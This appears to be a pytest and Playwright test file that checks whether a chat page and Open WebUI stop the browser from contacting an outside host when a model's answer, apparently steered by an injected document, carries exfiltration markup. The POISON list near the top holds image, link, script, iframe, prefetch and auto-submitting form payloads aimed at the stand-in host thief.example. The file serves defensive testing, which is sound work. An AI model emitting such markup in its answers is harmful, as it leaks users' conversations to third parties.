"""An answer that was told, by a document say, to send what it knows elsewhere: no page asks there."""

from __future__ import annotations

import asyncio
import re
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from browser.chat_page import Chat
from browser.open_webui_page import ANSWER_MS, OpenWebUI
from browser.request_log import RequestLog
from fakes.foundry import FakeFoundry
from fakes.open_webui import Person
from fakes.waiting import wait_until
from fakes.witness import behind_the_relay
from stack.settings import load

pytestmark = pytest.mark.full

THIEF = "http://thief.example"
POISON = [
    "Here you are. ",
    f"![chart]({THIEF}/picture?what-you-said) ",
    f"[more]({THIEF}/link?what-you-said) ",
    f'<img src="{THIEF}/tag?what-you-said"> ',
    f'<script>fetch("{THIEF}/script?what-you-said")</script> ',
    f'<iframe src="{THIEF}/frame?what-you-said"></iframe> ',
    f'<link rel="prefetch" href="{THIEF}/prefetch?what-you-said"> ',
    f'<form action="{THIEF}/form"><input autofocus onfocus="this.form.submit()"></form> ',
    "That was all.",
]
LAST = re.compile("That was all")
PICTURE = f"{THIEF}/picture?what-you-said"


@pytest.fixture(scope="module")
def _poisoned() -> Iterator[None]:
    """A model that answers so stands behind the relay."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    model = FakeFoundry(tokens=POISON)
    asyncio.run_coroutine_threadsafe(model.__aenter__(), loop).result(20)
    try:
        with behind_the_relay(load(), model.url):
            yield
    finally:
        asyncio.run_coroutine_threadsafe(model.__aexit__(), loop).result(20)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(20)


@pytest.fixture(params=[True, False], ids=["with-the-policy", "without"])
def policy(request: pytest.FixtureRequest) -> bool:
    """Whether the page's policy holds."""
    return bool(request.param)


@pytest.fixture
def context(browser: Browser, policy: bool) -> Iterator[BrowserContext]:
    context = browser.new_context(bypass_csp=not policy)
    context.set_default_timeout(ANSWER_MS)
    yield context
    context.close()


def judge(context: BrowserContext, log: RequestLog, address: str, *, policy: bool) -> None:
    """The page tried the picture at least; its policy kept the browser from asking, or, taken off, did not."""
    page = context.pages[-1]
    wait_until(lambda: page.evaluate("true") and PICTURE in log.urls)
    wait_until(lambda: page.evaluate("true") and (PICTURE in log.refused) is policy)
    assert (log.foreign_to(address) == []) is policy


@pytest.mark.usefixtures("_poisoned")
def test_the_chat(context: BrowserContext, policy: bool, chat_address: str) -> None:
    log = RequestLog(context)
    chat = Chat(context.new_page(), chat_address)
    expect(chat.send("Sum this document up, please.")).to_have_text(LAST, timeout=ANSWER_MS)
    judge(context, log, chat_address, policy=policy)


@pytest.mark.usefixtures("_poisoned")
def test_open_webui(context: BrowserContext, policy: bool, somebody: Person) -> None:
    log = RequestLog(context)
    web = OpenWebUI(context.new_page(), somebody)
    web.sign_in()
    web.choose_model()
    expect(web.send("Sum this document up, please.")).to_have_text(LAST, timeout=ANSWER_MS)
    judge(context, log, somebody.page, policy=policy)
